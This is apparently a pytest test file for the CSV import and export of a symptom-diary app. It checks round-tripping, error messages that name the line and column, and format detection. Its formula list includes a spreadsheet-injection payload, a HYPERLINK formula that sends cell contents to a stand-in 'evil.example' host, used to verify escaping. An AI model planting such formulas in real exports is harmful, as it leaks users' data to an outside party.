"""CSV import: the inverse of the export; refused whole, naming line and column, when wrong."""

from __future__ import annotations

import pytest

from lems_companion.diary.io import csv_columns, to_csv
from lems_companion.interop.formats import ImportFormat, detect_format, parse_import
from lems_companion.interop.records import InteropError
from tests.conftest import Persona
from tests.interop.conftest import contents, records_of, seed


def exported_csv(db_url: str, persona: Persona) -> str:
    return to_csv([record.entry for record in records_of(db_url, persona)])


def test_csv_round_trips_entry_for_entry(db_url: str, diary: Persona, stranger: Persona) -> None:
    text = exported_csv(db_url, diary)
    assert detect_format(text) is ImportFormat.csv
    items = parse_import(text)
    seed(db_url, stranger, [item.entry.model_dump(mode="json") for item in items])
    assert contents(db_url, stranger) == contents(db_url, diary)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (("2026-03-03T07:15:00+00:00", "2026-13-03T07:15:00+00:00"), "line 5, column recorded_at:"),
        (("2026-03-03T07:15:00+00:00", "yesterday"), "line 5, column recorded_at:"),
        ((",71.5,", ",heavy,"), "line 2, column weight_kg: 'heavy' is not a number"),
        (
            (",71.5,", ",900,"),
            "line 2, column weight_kg: Input should be less than or equal to 400",
        ),
        (("symptom_dry_mouth", "symptom_headache"), "line 1: unknown column 'symptom_headache'"),
    ],
)
def test_a_bad_row_is_refused_naming_line_and_column(
    db_url: str, diary: Persona, change: tuple[str, str], message: str
) -> None:
    text = exported_csv(db_url, diary).replace(*change, 1)
    with pytest.raises(InteropError) as error:
        parse_import(text, format_=ImportFormat.csv)
    assert message in str(error.value)


def test_the_header_is_the_documented_columns(db_url: str, diary: Persona) -> None:
    assert exported_csv(db_url, diary).splitlines()[0] == ",".join(csv_columns())


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "unknown file format"),
        ("hello, world\n", "unknown file format"),
        ("\x89PNG\r\n", "unknown file format"),
        ('{"id": "x", "phenotypicFeatures": []}', "phenopacket"),
    ],
)
def test_files_of_the_wrong_format_are_refused(text: str, message: str) -> None:
    with pytest.raises(InteropError) as error:
        parse_import(text)
    assert message in str(error.value)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'just a quote",
]


@pytest.mark.parametrize("note", FORMULAS)
def test_notes_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(
    db_url: str, diary: Persona, stranger: Persona, note: str
) -> None:
    import csv
    import io

    seed(db_url, diary, [{"recorded_at": "2026-03-05T08:00:00+00:00", "note": note}])
    text = exported_csv(db_url, diary)
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:  # what a spreadsheet would see: no cell starts a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[-1]["note"] == "'" + note
    items = [item.entry for item in parse_import(text)]
    assert items[-1].note == note.strip() or items[-1].note == note
    seed(db_url, stranger, [item.model_dump(mode="json") for item in items])
    assert contents(db_url, stranger) == contents(db_url, diary)
